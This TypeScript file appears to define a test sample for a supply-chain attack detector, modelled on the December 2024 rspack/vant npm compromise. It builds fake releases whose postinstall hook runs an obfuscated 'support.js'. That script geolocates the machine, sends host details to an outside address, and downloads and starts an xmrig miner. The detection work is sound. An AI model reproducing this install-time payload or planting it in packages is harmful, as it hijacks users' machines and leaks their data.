import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@rspack/core` and `@rspack/cli` 1.1.7 and vant on three lines, 19 December 2024: stolen tokens. An obfuscated `support.js` told
 * a server where the machine stands, took its settings from a bare address and started a miner. Builds had carried provenance.
 */
export const rspack2024: Sample = defineAttack({
  id: "rspack-2024",
  title: "An obfuscated hook looks up where it is and starts a miner",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@rspack/core", version: "1.1.7" },
    { name: "vant", version: "4.9.11" },
  ],
  now: "2024-12-19T02:20:00Z",
  createLines: () => [
    line("@rspack/core", ["1.1.5", "1.1.6", "1.1.7"], "workflow-token"),
    line("vant", ["4.9.9", "4.9.10", "4.9.11"], "hand"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  way: "hand" | "workflow-token",
): PackageLine {
  const change: LineChange = {
    way: "hand",
    hasCommit: false,
    manifest: { scripts: { test: "node --test", postinstall: "node dist/util/support.js" } },
    files: [{ path: "dist/util/support.js", content: support }],
  };
  return {
    name,
    files: commandTool(name, "tool"),
    publisher: person(`${name.replaceAll(/\W/g, "")}-bot`),
    way,
    releases: [
      [older, "2024-12-03T10:00:00Z"],
      [last, "2024-12-12T10:00:00Z"],
      [armed, "2024-12-19T02:01:00Z", change],
    ],
  };
}

const support = hideInTable(
  oneLine(
    commonScript(String.raw`
const http = require("http");
const fs = require("fs");
const os = require("os");
const path = require("path");
const child = require("child_process");
function getJson(address, done) {
  http.get(address, (reply) => {
    let text = "";
    reply.on("data", (chunk) => { text += chunk; });
    reply.on("end", () => { done(JSON.parse(text)); });
  }).on("error", () => {});
}
function report(place) {
  const sent = http.request({ host: "198.51.100.76", port: 8000, path: "/a", method: "POST" });
  sent.on("error", () => {});
  sent.end(JSON.stringify({ ip: place.query, country: place.country, host: os.hostname(), cpu: os.cpus().length }));
}
if (os.platform() === "linux") {
  getJson("http://ipinfo.invalid/json", (place) => {
    report(place);
    getJson("http://198.51.100.76/config.json", (settings) => {
      const target = path.join(os.homedir(), ".config", "vlc", "vlc_hw");
      http.get("http://198.51.100.76/xmrig.tar.gz", (reply) => {
        reply.pipe(fs.createWriteStream(target)).on("finish", () => {
          fs.chmodSync(target, 493);
          const task = child.spawn(target, ["-u", settings.user, "--url", "stratum+tcp://pool.mining.invalid:3333", "--tls"], { detached: true, stdio: "ignore" });
          task.unref();
        });
      });
    });
  });
}
`),
  ),
  "reversed-base64",
);
